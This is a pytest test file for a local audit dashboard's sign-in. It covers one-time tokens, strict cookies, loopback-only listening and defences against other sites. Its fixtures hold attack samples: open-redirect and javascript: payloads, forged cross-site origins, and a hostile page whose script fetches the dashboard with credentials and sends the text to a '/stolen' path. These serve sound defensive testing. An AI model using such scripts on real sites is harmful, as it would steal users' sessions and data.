"""Who gets in: a token once, a cookie that dies with the server, and whose name goes on record."""

import re
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from playwright.sync_api import Browser, Page

from loom_audit.api.face import person
from loom_audit.errors import StorageFailed
from loom_audit.web.app import create_app
from loom_audit.web.listening import listen
from loom_audit.web.shared.admission import COOKIE, LABEL_CHARACTERS, Admission
from loom_audit.web.sign_in import signing_in_page
from tests.web.browser.following import follow
from tests.web.conftest import PORT, Live, Recorded, asking
from tests.web.web_pages import pages


class Door:
    """A dashboard over a recording, and somebody before it who has not signed in."""

    def __init__(self, made: Recorded) -> None:
        self.made = made
        self.admission = Admission(person())
        self.address = f"http://{self.admission.host}:{PORT}"
        self.visitor = self.stranger()

    def stranger(self) -> TestClient:
        app = create_app(self.made.store, self.admission)
        made = TestClient(app, base_url=self.address, follow_redirects=False)
        made.headers["origin"] = self.address
        return made


@pytest.fixture
def door(standing: Recorded) -> Door:
    return Door(standing)


def test_without_the_cookie_every_page_and_action_says_only_how_to_get_in(
    standing: Recorded, door: Door
) -> None:
    url, head = standing.url, standing.workspace.log.head()
    asked = [*pages(standing).values(), "/healthz", "/nothing", f"{url}/raw/head/notes.txt"]
    revert = {"verb": "revert", "target": str(standing.numbers["notes"]), "quick": "1"}
    posts = [f"{url}/carry-out", f"{url}/proof", f"{url}/approvals/1", "/nothing"]
    answers = [door.visitor.get(path) for path in asked]
    answers += [door.visitor.post(path, data=revert) for path in posts]
    answers += [door.visitor.get(path, headers={"hx-request": "true"}) for path in asked]
    for answer in answers:
        assert answer.status_code == 403
        assert "shows a token" in answer.text
        shown = answer.text.replace(str(answer.url), "")
        assert str(standing.root) not in shown and "coder" not in shown
        assert "set-cookie" not in answer.headers
    assert standing.workspace.log.head() == head
    assert (standing.root / "notes.txt").read_text() == "one\nTWO\nthree\n"


def test_a_token_lets_one_browser_in_once(door: Door) -> None:
    token = door.admission.new_token()
    form = {"token": f" {token}\n"}
    first = door.visitor.post("/sign-in", data=form)
    assert first.status_code == 200
    assert door.visitor.get("/").status_code == 200
    other = door.stranger()
    second = other.post("/sign-in", data=form)
    assert second.status_code == 403 and "has been used" in second.text
    assert other.get("/").status_code == 403


@pytest.mark.parametrize("token", ["", "x", "\N{SNOWMAN}", "\udcff", "a" * 32])
def test_what_is_not_a_token_lets_nobody_in(door: Door, token: str) -> None:
    door.admission.new_token()
    body = b"token=" + b"".join(
        b"%%%02X" % byte for byte in token.encode("utf-8", "surrogateescape")
    )
    kind = {"content-type": "application/x-www-form-urlencoded"}
    assert door.visitor.post("/sign-in", content=body, headers=kind).status_code == 403
    assert door.visitor.get("/").status_code == 403


def test_a_get_never_redeems_a_token(door: Door) -> None:
    token = door.admission.new_token()
    for path in ("/sign-in", "/"):
        for form in ({"token": token}, {"token": token, "name": "x", "to": "/"}):
            answer = door.visitor.get(path, params=form)
            assert answer.status_code == 403 and "set-cookie" not in answer.headers
    assert door.visitor.post("/sign-in", data={"token": token}).status_code == 200


def test_the_cookie_is_of_this_host_alone_and_out_of_reach_of_scripts(door: Door) -> None:
    answer = door.visitor.post("/sign-in", data={"token": door.admission.new_token()})
    (cookie,) = answer.headers.get_list("set-cookie")
    name, _, attributes = cookie.partition(";")
    assert name.startswith(f"{COOKIE}=") and len(name) > len(COOKIE) + 40
    found = {part.strip().lower() for part in attributes.split(";")}
    assert found == {"httponly", "samesite=strict", "path=/"}


def test_a_cookie_of_a_server_that_has_ended_lets_nobody_in(standing: Recorded) -> None:
    with asking(standing.store) as earlier:
        kept = earlier.cookies[COOKIE]
    now = Door(standing)
    for value in (kept, "", "x", kept[:-1]):
        cookie = {"cookie": f"{COOKIE}={value}"}
        assert now.visitor.get("/", headers=cookie).status_code == 403


def test_the_answer_goes_on_to_the_page_that_was_asked_for(standing: Recorded, door: Door) -> None:
    asked = f"{standing.url}/calls?tool=edit_file&path=a%20%22b"
    form = re.search(r'name="to" value="([^"]*)"', door.visitor.get(asked).text)
    assert form is not None
    place = form[1].replace("&amp;", "&")
    assert place == asked
    answer = door.visitor.post("/sign-in", data={"token": door.admission.new_token(), "to": place})
    assert f'<meta http-equiv="refresh" content="0;url={form[1]}">' in answer.text
    assert "location" not in answer.headers


@pytest.mark.parametrize(
    "place",
    [
        "//evil.example/",
        "/\\evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
        "x",
        "/a\nb",
        "/\N{SNOWMAN}",
        "/a b",
        "",
    ],
)
def test_the_answer_goes_nowhere_else(door: Door, place: str) -> None:
    answer = door.visitor.post("/sign-in", data={"token": door.admission.new_token(), "to": place})
    assert 'content="0;url=/">' in answer.text
    assert "evil" not in answer.text


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"origin": "null"}, 200),
        ({"origin": "null", "sec-fetch-site": "cross-site"}, 200),
        ({"origin": "OURS", "sec-fetch-site": "same-origin"}, 200),
        ({"origin": "http://evil.example", "sec-fetch-site": "cross-site"}, 403),
        ({"origin": "http://evil.example"}, 403),
        ({"sec-fetch-site": "cross-site"}, 403),
        ({"sec-fetch-site": "same-site", "origin": "http://127.0.0.1:8642"}, 403),
    ],
)
def test_a_token_may_come_from_a_file_and_from_no_other_site(
    door: Door, headers: dict[str, str], status: int
) -> None:
    del door.visitor.headers["origin"]
    sent = {name: value.replace("OURS", door.address) for name, value in headers.items()}
    form = {"token": door.admission.new_token()}
    assert door.visitor.post("/sign-in", data=form, headers=sent).status_code == status


def test_each_server_goes_by_a_name_that_no_other_has() -> None:
    names = {Admission("person:x").host for _ in range(100)}
    assert len(names) == 100
    assert all(re.fullmatch(r"[0-9a-f]{20}\.localhost", name) for name in names)


def test_the_account_is_the_actor_and_a_given_name_stands_beside_it(recorded: Recorded) -> None:
    form = {"verb": "revert", "target": str(recorded.numbers["notes"]), "quick": "1"}
    with asking(recorded.store, label="  Ada \n Lovelace " + "x" * 200) as client:
        plan = client.get(f"{recorded.url}/plan", params={**form, "quick": ""}).text
        assert client.post(f"{recorded.url}/carry-out", data=form).status_code == 303
        newest, *_ = recorded.workspace.timeline.calls()
        page = client.get(f"{recorded.url}/c/{newest.seq}").text
    label = ("Ada Lovelace " + "x" * 200)[:LABEL_CHARACTERS]
    assert f"Recorded as {person()} ({label})" in plan
    assert newest.actor == person()
    assert newest.seq is not None
    assert recorded.workspace.timeline.call(newest.seq).arguments["label"] == label
    assert label in page


def test_without_a_name_nothing_stands_beside_the_account(recorded: Recorded) -> None:
    form = {"verb": "revert", "target": str(recorded.numbers["notes"]), "quick": "1"}
    with asking(recorded.store) as client:
        client.post(f"{recorded.url}/carry-out", data=form)
    newest, *_ = recorded.workspace.timeline.calls()
    assert newest.seq is not None and newest.actor == person()
    assert "label" not in recorded.workspace.timeline.call(newest.seq).arguments


# --- ports --------------------------------------------------------------------------------


def test_both_loopback_addresses_are_taken_and_no_other() -> None:
    sockets = listen(0)
    try:
        addresses = {one.getsockname()[0] for one in sockets}
        ports = {one.getsockname()[1] for one in sockets}
    finally:
        for one in sockets:
            one.close()
    assert addresses == {"127.0.0.1", "::1"}
    assert len(ports) == 1


def test_where_another_account_listens_on_the_other_address_we_do_not_serve() -> None:
    """A browser asks ::1 first, and would bring the cookie there."""
    with socket.create_server(("::1", 0), family=socket.AF_INET6) as other:
        port = other.getsockname()[1]
        with pytest.raises(StorageFailed) as refused:
            listen(port)
        assert f"[::1]:{port}" in refused.value.message
    for one in listen(port):
        one.close()


def test_where_there_is_no_ipv6_the_other_address_will_do() -> None:
    code = (
        "import socket, errno\n"
        "real = socket.create_server\n"
        "def without(address, *, family):\n"
        "    if family == socket.AF_INET6: raise OSError(errno.EAFNOSUPPORT, 'no IPv6')\n"
        "    return real(address, family=family)\n"
        "socket.create_server = without\n"
        "from loom_audit.web.listening import listen\n"
        "print([one.getsockname()[0] for one in listen(0)])\n"
    )
    said = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert said.stdout == "['127.0.0.1']\n"


def test_an_answer_is_sent_without_waiting_for_the_last_one_to_be_acknowledged() -> None:
    """As Nagle's algorithm does, which makes each answer on a kept connection 40 ms late."""
    for one in listen(0):
        with one, socket.create_connection(one.getsockname()[:2]):
            accepted, _ = one.accept()
            with accepted:
                assert accepted.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY) != 0


def test_a_port_that_is_taken_is_named() -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        with pytest.raises(StorageFailed) as refused:
            listen(port)
    assert str(port) in refused.value.message
    assert "--port" in refused.value.hint


# --- in a browser -------------------------------------------------------------------------


@pytest.fixture(params=[True, False], ids=["with JavaScript", "without JavaScript"])
def scripted(request: pytest.FixtureRequest) -> bool:
    return bool(request.param)


@pytest.fixture
def stranger(scripted: bool, browser: Browser) -> Iterator[Page]:
    """A page of a browser that has not signed in."""
    context = browser.new_context(java_script_enabled=scripted)
    yield context.new_page()
    context.close()


class Other:
    """A server on another port, as an agent may start one; it keeps all that it is sent."""

    def __init__(self, page: str) -> None:
        self.received: list[tuple[str, str]] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(handler) -> None:
                self.received.append((handler.path, str(handler.headers)))
                handler.send_response(200)
                handler.send_header("content-type", "text/html")
                handler.end_headers()
                handler.wfile.write(page.encode())

            do_POST = do_GET

            def log_message(handler, *parts: object) -> None:
                """Nothing is printed."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]


@pytest.fixture
def other(standing_live: Live, standing: Recorded) -> Iterator[Other]:
    """Its page does what it can to be told something: pictures, requests, a form, a link."""
    ours = standing_live.address
    made = Other(
        f'<img src="{ours}/"><a href="{ours}{standing.url}/calls">a link</a>'
        f'<form method="post" action="{ours}{standing.url}/proof"><button>a form</button></form>'
        f'<script>fetch("{ours}/", {{credentials: "include"}}).then(r => r.text())'
        '.then(text => fetch("/stolen?" + text), () => fetch("/refused"))</script>'
    )
    thread = threading.Thread(target=made.server.serve_forever, daemon=True)
    thread.start()
    yield made
    made.server.shutdown()
    made.server.server_close()
    thread.join(10)


@pytest.mark.browser
def test_a_server_on_another_port_receives_nothing(
    standing: Recorded, browser: Browser, standing_live: Live, other: Other
) -> None:
    context = standing_live.visit(browser)
    (cookie,) = context.cookies(standing_live.address)
    page = context.new_page()
    sent: list[str] = []
    page.goto(f"{standing_live.address}{standing.url}/calls")
    for host in ("127.0.0.1", "localhost", "other.localhost"):
        with page.expect_request("**/refused"):
            page.goto(f"http://{host}:{other.port}/")
        sent += [path for path, _ in other.received]
        page.get_by_role("button", name="a form").click()
        assert page.get_by_role("heading", level=1).inner_text() == "Sign in"
        page.goto(f"{standing_live.address}{standing.url}/calls")
    context.close()
    assert len(other.received) >= 6 and not any("stolen" in path for path in sent)
    for path, headers in other.received:
        told = path + headers
        assert cookie["value"] not in told
        assert standing_live.admission.host not in told
        assert "cookie" not in headers.lower()


@pytest.mark.browser
def test_a_link_from_elsewhere_leads_in_by_one_more_click(
    standing: Recorded, browser: Browser, standing_live: Live, other: Other
) -> None:
    """A cookie that is SameSite=Strict is not sent where another site leads."""
    context = standing_live.visit(browser)
    page = context.new_page()
    page.goto(f"http://127.0.0.1:{other.port}/")
    page.get_by_role("link", name="a link").click()
    assert page.get_by_role("heading", level=1).inner_text() == "Sign in"
    page.get_by_role("link", name="Go on").click()
    page.locator(f"tr#c{standing.numbers['notes']}").wait_for()
    context.close()


@pytest.mark.few(1)
@pytest.mark.browser
def test_the_token_of_the_terminal_is_typed_in(
    standing: Recorded, stranger: Page, standing_live: Live
) -> None:
    stranger.goto(f"{standing_live.address}{standing.url}/c/{standing.numbers['notes']}")
    stranger.get_by_label("Token").fill("something else")
    stranger.get_by_role("button", name="Sign in").click()
    assert "lets nobody in" in stranger.get_by_role("alert").inner_text()
    stranger.get_by_label("Token").fill(standing_live.admission.new_token())
    stranger.get_by_label("Your name").fill("Ada")
    stranger.get_by_role("button", name="Sign in").click()
    stranger.wait_for_url(f"**/c/{standing.numbers['notes']}")
    follow(stranger.get_by_role("link", name="Review first…"))
    assert f"Recorded as {person()} (Ada)" in stranger.content()


@pytest.mark.browser
def test_a_file_signs_the_browser_in_that_opens_it(
    standing: Recorded, stranger: Page, scripted: bool, standing_live: Live, tmp_path: Path
) -> None:
    file = tmp_path / "sign-in.html"
    token = standing_live.admission.new_token()
    file.write_text(signing_in_page(standing_live.address + "/", token))
    stranger.goto(file.as_uri())
    if not scripted:
        stranger.get_by_role("button", name="Open the dashboard").click()
    stranger.wait_for_url(f"{standing_live.address}/")
    stranger.get_by_role("heading", name="Workspaces").wait_for()
    assert token not in stranger.url
    assert str(standing.root) in stranger.content()


@pytest.mark.few(1)
@pytest.mark.browser
def test_a_forwarded_port_works(recorded: Recorded, live: Live, stranger: Page) -> None:
    """As `ssh -L` forwards one: another number on the person's side, the bytes as they are."""
    target = ("127.0.0.1", int(live.address.rpartition(":")[2]))
    relay = (
        "import socket, threading\n"
        f"server = socket.create_server(('127.0.0.1', 0)); target = {target!r}\n"
        "print(server.getsockname()[1], flush=True)\n"
        "def pump(a, b):\n"
        "    while data := a.recv(65536): b.sendall(data)\n"
        "    b.shutdown(socket.SHUT_WR)\n"
        "while True:\n"
        "    near, _ = server.accept(); far = socket.create_connection(target)\n"
        "    for pair in ((near, far), (far, near)):\n"
        "        threading.Thread(target=pump, args=pair, daemon=True).start()\n"
    )
    with subprocess.Popen(
        [sys.executable, "-c", relay], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
    ) as tunnel:
        assert tunnel.stdout is not None
        port = int(tunnel.stdout.readline())
        stranger.goto(f"http://{live.admission.host}:{port}{recorded.url}/calls")
        stranger.get_by_label("Token").fill(live.admission.new_token())
        stranger.get_by_role("button", name="Sign in").click()
        number = recorded.numbers["notes"]
        stranger.get_by_role("button", name=f"Undo call {number}", exact=True).click()
        stranger.get_by_text("Took back").first.wait_for()
        tunnel.kill()
    assert (recorded.root / "notes.txt").read_text() == "one\ntwo\nthree\n"
